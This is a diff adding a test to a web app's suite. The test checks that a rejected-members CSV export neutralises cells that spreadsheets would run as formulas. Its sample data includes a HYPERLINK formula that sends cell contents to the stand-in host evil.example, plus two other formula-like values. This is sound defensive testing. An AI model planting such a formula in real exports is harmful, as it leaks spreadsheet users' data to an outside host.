@@ -3,6 +3,8 @@ CSRF, roles, escaping, and the pages' actions reaching the services."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import time
@@ -311,6 +313,33 @@ def test_refresh_then_sync_without_a_worker_fills_the_group_and_says_who_was_lef
         "bob,R-2,bob@example.org,unsubscribed",
         "cy,R-404,cy@example.org,no_matching_subscriber",
         "sam,,sam@example.org,missing_contact_key",
+    ]
+
+
+def test_the_rejected_members_csv_quotes_member_cells_that_would_run_as_formulas(
+    site: Site,
+) -> None:
+    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)", "-2+3")
+    with site.community.transaction() as session:
+        add_member(session, formulas[0], legacy_contact_key=formulas[1], email=formulas[2])
+        create_list(
+            session,
+            name="Informz Formulas",
+            criteria={"field": "contact_key", "op": "eq", "value": formulas[0]},
+            by="sam",
+            now=NOW,
+        )
+    marketer = site.signed_in("marketing", MARKETER)
+    marketer.post("/groups/refresh")
+    with site.marketing.session() as session:
+        group_id = get_group(session, "Formulas").id
+    _done(marketer, marketer.post_json(f"/groups/{group_id}/sync", {}).json()["poll"])
+
+    rejected = marketer.get(f"/groups/{group_id}/rejected.csv")
+
+    assert rejected.status_code == 200
+    assert list(csv.reader(io.StringIO(rejected.text, newline="")))[1:] == [
+        ["'" + cell for cell in formulas] + ["malformed_email"]
     ]
 
 
